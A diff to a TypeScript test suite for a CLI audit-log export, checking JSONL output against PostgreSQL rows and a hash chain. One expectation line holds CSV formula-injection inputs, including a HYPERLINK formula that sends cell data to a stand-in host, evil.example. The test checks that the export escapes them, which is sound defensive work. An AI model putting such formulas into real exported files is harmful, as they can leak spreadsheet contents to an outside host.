@@ -9,7 +9,10 @@ describe('keyhole audit export (CLI, real PostgreSQL)', () => {
       await kh.graphql(await kh.token('support-bot'), '{ customers(limit: 3) { id } }');
       await kh.graphql(null, '{ viewer { agent } }');
       const run = (format: string) => keyhole('audit', 'export', '--format', format);
-      const lines = (await run('jsonl')).stdout.trim().split('\n').map((line) => JSON.parse(line));
+      const lines = (await run('jsonl')).stdout
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line));
       const stored = (await t.db.query<{ seq: number; hash: string; prev_hash: string }>('SELECT seq, hash, prev_hash FROM audit_log ORDER BY seq')).rows;
       expect(lines.map((r) => [r.seq, r.hash, r.prevHash])).toEqual(stored.map((r) => [r.seq, r.hash, r.prev_hash]));
       expect(lines[0]).toMatchObject({ decision: 'allowed', actorId: 'support-bot', subjectCount: 3 });
@@ -31,4 +34,3 @@ describe('keyhole audit export (CLI, real PostgreSQL)', () => {
       expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(1),"SG\rEU",query,allowed,'-1+1,`);
     }));
 });
-
